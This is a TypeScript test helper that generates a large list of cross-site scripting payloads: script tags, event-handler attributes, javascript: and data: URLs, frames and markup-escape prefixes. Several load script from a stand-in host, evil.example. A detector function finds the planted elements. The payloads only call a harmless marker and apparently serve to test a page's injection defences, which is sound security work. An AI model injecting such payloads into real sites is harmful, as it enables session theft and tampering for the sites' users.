/** Each payload calls `run(name)` if the browser executes it. */
const call = (name: string) => `window.ran?.('${name}')`
const data = (type: string, text: string) => `data:${type},${encodeURIComponent(text)}`

/** Markup of an attacker who can write anything into a page, but not its headers. */
export function listHostileMarkup(evil: string): readonly string[] {
  const scripts = [
    `<script>${call('inline')}</script>`,
    `<script type="module">${call('module')}</script>`,
    `<script nonce="abc">${call('nonce')}</script>`,
    `<script src="${data('text/javascript', call('data'))}"></script>`,
    `<script src="${evil}/x.js"></script>`,
    `<script type="module" src="${evil}/x.js"></script>`,
    `<script type="module">import '${evil}/x.js'</script>`,
    `<script type="module">import '${data('text/javascript', call('dataModule'))}'</script>`,
    `<script type="importmap">{"imports":{"react":"${evil}/x.js"}}</script>`,
    `<script type="speculationrules">{"prefetch":[{"urls":["${evil}/s"]}]}</script>`,
    `<script src="${evil.replace('http:', '')}/x.js"></script>`,
    `<svg><script>${call('svg')}</script></svg>`,
    `<svg><script href="${data('text/javascript', call('svgHref'))}"></script></svg>`,
    `<link rel="modulepreload" href="${evil}/x.js">`,
    `<link rel="preload" as="script" href="${evil}/x.js">`,
  ]
  const handlers = [
    ['<img src="/no" onerror="', '">'],
    ['<img src="/favicon.svg" onload="', '">'],
    ['<svg onload="', '">'],
    ['<svg><animate attributeName="x" dur="1s" onbegin="', '"></svg>'],
    ['<svg><set attributeName="x" onbegin="', '"></svg>'],
    ['<img srcset="/no 1x" onerror="', '">'],
    ['<style onload="', '"></style>'],
    ['<select autofocus onfocus="', '"></select>'],
    ['<body onload="', '">'],
    ['<body onpageshow="', '">'],
    ['<input autofocus onfocus="', '">'],
    ['<details open ontoggle="', '">'],
    ['<video><source onerror="', '"></video>'],
    ['<audio src="/no" onerror="', '">'],
    ['<marquee onstart="', '">'],
    ['<style>@keyframes x{}</style><div style="animation:x 1s" onanimationstart="', '"></div>'],
    ['<object data="/no" onerror="', '"></object>'],
    ['<iframe src="/no" onload="', '"></iframe>'],
    ['<link rel="stylesheet" href="/no" onerror="', '">'],
    ['<script src="/no" onerror="', '"></script>'],
  ].map(([head = '', tail = ''], index) => `${head}${call(`handler${index}`)}${tail}`)
  const frames = [
    `<iframe src="javascript:${call('javascriptFrame')}"></iframe>`,
    `<iframe srcdoc="<script>parent.ran('srcdoc')</script>"></iframe>`,
    `<iframe src="${data('text/html', '<script>parent.ran("frame")</script>')}"></iframe>`,
    `<iframe src="${evil}/page"></iframe>`,
    `<object data="${data('text/html', call('object'))}"></object>`,
    `<embed src="${evil}/page">`,
    `<a id="click" href="javascript:${call('link')}">x</a>`,
    `<form id="form" action="javascript:${call('form')}"></form>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${call('refresh')}">`,
    `<base href="${evil}/">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
  ]
  return [...scripts, ...handlers, ...frames]
}

/** Prefixes that would break out of the markup around an input. */
const escapes = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '\\"}',
  '`}',
  '\u0000<',
  '%3C',
]

/** More than 500 texts, for everything that comes from outside. */
export function listPayloads(): readonly string[] {
  return [
    ...listHostileMarkup('http://evil.example').flatMap((markup) => escapes.map((start) => `${start}${markup}`)),
    'javascript:ran(1)',
    'data:text/html,<script>parent.ran(1)</script>',
    '{"__proto__":{"onerror":"ran(1)"}}',
  ]
}

/** Runs in the page: elements that only a payload would make. */
export function findPlanted(): readonly string[] {
  const planted =
    'iframe, object, embed, base, marquee, [onerror], [onload], [onbegin], [onfocus], [src="/no"], [src*="evil"], [href*="evil"], [href^="javascript:"], #click, #form'
  return [...document.querySelectorAll(planted)].map((element) => element.outerHTML.slice(0, 100))
}
